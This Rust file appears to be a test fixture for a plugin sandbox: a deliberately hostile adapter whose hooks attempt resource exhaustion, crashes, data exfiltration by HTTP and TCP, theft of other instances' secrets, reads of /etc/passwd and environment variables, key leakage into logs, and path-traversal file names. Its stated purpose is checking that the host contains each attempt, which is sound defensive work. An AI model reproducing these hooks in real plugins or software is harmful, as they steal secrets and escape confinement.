//! A hostile adapter for tests: every hook tries to escape the sandbox or
//! exhaust the host. The host must turn each attempt into a clear error (or
//! an empty answer) and keep serving other calls.
//!
//! Hooks (all `execute`, topic = the hook id, params JSON):
//! - `spin`: loops forever on the CPU.
//! - `sleep`: blocks on a 1-hour timer (wall clock, no CPU).
//! - `hog`: allocates and touches `params.mib` MiB (default 1024).
//! - `panic`: panics.
//! - `exfiltrate`: HTTP GET to `params.url` (a host the policy does not allow).
//! - `tcp`: opens a TCP connection to `params.addr` (not allowed).
//! - `steal`: asks the host for other instances' secrets (`params.names`).
//! - `snoop`: reads files, environment variables and arguments.
//! - `flood`: logs `params.lines` lines of `params.size` bytes.
//! - `leak`: reads its own secret `api_key` and puts it in an error message.
//!
//! - `recurse`: recurses without end (stack overflow).
//! - `exit`: calls `std::process::exit`.
//! - `escape_paths` (scaffold): files at `../`, absolute and sneaky paths.
//! - `many_files` (scaffold): `params`-free, 10,000 files.
//! - `catalog_escape` (pull): product definitions named `../evil` and `/etc`.
//!
//! Plus `ok`, a well-behaved execute hook, and a `setup` that spins (to
//! show a setup hook is bounded the same way). The scaffold and pull hooks
//! return their hostile files as data: the command that writes them must
//! refuse them (the runtime never writes files).

use meshroom_sdk::http::Request;
use meshroom_sdk::tcp::TcpLineSender;
use meshroom_sdk::{
    Adapter, Context, Error, File, Hook, Outcome, ProductDefinition, Result, Value, json, log,
};

struct Hostile;

impl Adapter for Hostile {
    const PRODUCT: &'static str = "hostile";
    const VERSION: &'static str = env!("CARGO_PKG_VERSION");

    fn hooks() -> Vec<Hook> {
        vec![
            Hook::execute("ok", ok).executor().topic("ok"),
            Hook::execute("spin", spin).executor().topic("spin"),
            Hook::execute("sleep", sleep).executor().topic("sleep"),
            Hook::execute("hog", hog).executor().topic("hog"),
            Hook::execute("panic", panic).executor().topic("panic"),
            Hook::execute("exfiltrate", exfiltrate)
                .executor()
                .topic("exfiltrate"),
            Hook::execute("tcp", tcp).executor().topic("tcp"),
            Hook::execute("steal", steal).executor().topic("steal"),
            Hook::execute("snoop", snoop).executor().topic("snoop"),
            Hook::execute("flood", flood).executor().topic("flood"),
            Hook::execute("leak", leak).executor().topic("leak"),
            Hook::execute("recurse", recurse)
                .executor()
                .topic("recurse"),
            Hook::execute("exit", exit).executor().topic("exit"),
            Hook::setup("spin_setup", spin_setup)
                .consumer()
                .topic("events")
                .owns_both(),
            Hook::scaffold("escape_paths", escape_paths),
            Hook::scaffold("many_files", many_files),
            Hook::pull("catalog_escape", catalog_escape),
        ]
    }
}

fn ok(ctx: &Context, params: Value) -> Result<Value> {
    Ok(json!({"ok": true, "instance": ctx.instance()?.name, "params": params}))
}

fn spin(_ctx: &Context, _params: Value) -> Result<Value> {
    let mut x: u64 = 0;
    loop {
        x = std::hint::black_box(x.wrapping_mul(6364136223846793005).wrapping_add(1));
    }
}

fn spin_setup(_ctx: &Context) -> Result<Outcome> {
    let mut x: u64 = 0;
    loop {
        x = std::hint::black_box(x.wrapping_add(1));
    }
}

fn sleep(_ctx: &Context, _params: Value) -> Result<Value> {
    std::thread::sleep(std::time::Duration::from_secs(3600));
    Ok(json!("woke up"))
}

fn hog(_ctx: &Context, params: Value) -> Result<Value> {
    let mib = params.get("mib").and_then(Value::as_u64).unwrap_or(1024) as usize;
    let mut v: Vec<u8> = Vec::new();
    // Grow in steps and touch every page, so the memory is really used.
    for _ in 0..mib {
        let start = v.len();
        v.resize(start + (1 << 20), 1);
    }
    Ok(json!({"allocated_mib": v.len() >> 20}))
}

fn panic(_ctx: &Context, _params: Value) -> Result<Value> {
    panic!("hostile adapter panicked on purpose");
}

fn exfiltrate(_ctx: &Context, params: Value) -> Result<Value> {
    let url = params
        .get("url")
        .and_then(Value::as_str)
        .unwrap_or("http://example.com/");
    let resp = Request::post(url).body("stolen data").send()?;
    Ok(json!({"status": resp.status, "body": resp.text()}))
}

fn tcp(_ctx: &Context, params: Value) -> Result<Value> {
    let addr = params
        .get("addr")
        .and_then(Value::as_str)
        .unwrap_or("127.0.0.1:22");
    let mut sender = TcpLineSender::connect(addr)?;
    sender.send_line(b"stolen data")?;
    Ok(json!({"sent": true}))
}

fn steal(_ctx: &Context, params: Value) -> Result<Value> {
    let names: Vec<String> = params
        .get("names")
        .and_then(Value::as_array)
        .map(|a| {
            a.iter()
                .filter_map(|v| v.as_str().map(String::from))
                .collect()
        })
        .unwrap_or_default();
    let got: serde_json::Map<String, Value> = names
        .into_iter()
        .map(|n| {
            let v = meshroom_sdk::secret(&n).map_or(Value::Null, Value::String);
            (n, v)
        })
        .collect();
    Ok(Value::Object(got))
}

fn snoop(_ctx: &Context, _params: Value) -> Result<Value> {
    let files: Vec<Value> = ["/etc/passwd", "/proc/self/environ", ".", "/"]
        .iter()
        .map(|p| match std::fs::read_to_string(p) {
            Ok(s) => json!({"path": p, "read": s.len()}),
            Err(e) => json!({"path": p, "error": e.to_string()}),
        })
        .collect();
    let dirs = std::fs::read_dir("/").map(|d| d.count()).ok();
    let env: Vec<String> = std::env::vars().map(|(k, _)| k).collect();
    let args: Vec<String> = std::env::args().collect();
    Ok(json!({"files": files, "read_dir_root": dirs, "env": env, "args": args}))
}

fn flood(_ctx: &Context, params: Value) -> Result<Value> {
    let lines = params
        .get("lines")
        .and_then(Value::as_u64)
        .unwrap_or(10_000);
    let size = params.get("size").and_then(Value::as_u64).unwrap_or(10_000) as usize;
    let line = "x".repeat(size);
    for _ in 0..lines {
        log::info(&line);
        eprintln!("{line}");
    }
    Ok(json!({"logged": lines}))
}

fn leak(ctx: &Context, _params: Value) -> Result<Value> {
    let key = ctx.secret("api_key")?;
    log::warn(&format!("my key is {key}"));
    Err(Error::Failed(format!("leaking the key {key} in an error")))
}

#[allow(unconditional_recursion)]
fn depth(n: u64) -> u64 {
    // black_box keeps the recursion from being turned into a loop.
    std::hint::black_box(depth(std::hint::black_box(n + 1))) + 1
}

fn recurse(_ctx: &Context, _params: Value) -> Result<Value> {
    Ok(json!(depth(0)))
}

fn exit(_ctx: &Context, _params: Value) -> Result<Value> {
    std::process::exit(3)
}

fn file(path: &str, contents: &str) -> File {
    File {
        path: path.into(),
        contents: contents.as_bytes().to_vec(),
    }
}

fn escape_paths(_ctx: &Context) -> Result<Vec<File>> {
    Ok(vec![
        file("README.md", "harmless"),
        file("../../../escaped.txt", "outside the project"),
        file("/tmp/meshroom-hostile-absolute.txt", "absolute"),
        file("docs/../../escaped-too.txt", "sneaky"),
        file("C:\\windows\\evil.txt", "drive path"),
        file("", "empty name"),
    ])
}

fn many_files(_ctx: &Context) -> Result<Vec<File>> {
    Ok((0..10_000)
        .map(|i| file(&format!("f/{i}.txt"), "x"))
        .collect())
}

fn catalog_escape(_ctx: &Context) -> Result<Vec<ProductDefinition>> {
    Ok(vec![
        ProductDefinition {
            name: "../evil".into(),
            definition: "name: evil\n".into(),
        },
        ProductDefinition {
            name: "/etc".into(),
            definition: "name: etc\n".into(),
        },
        ProductDefinition {
            name: "fine_product".into(),
            definition: "name: fine_product\n".into(),
        },
    ])
}

meshroom_sdk::export!(Hostile);
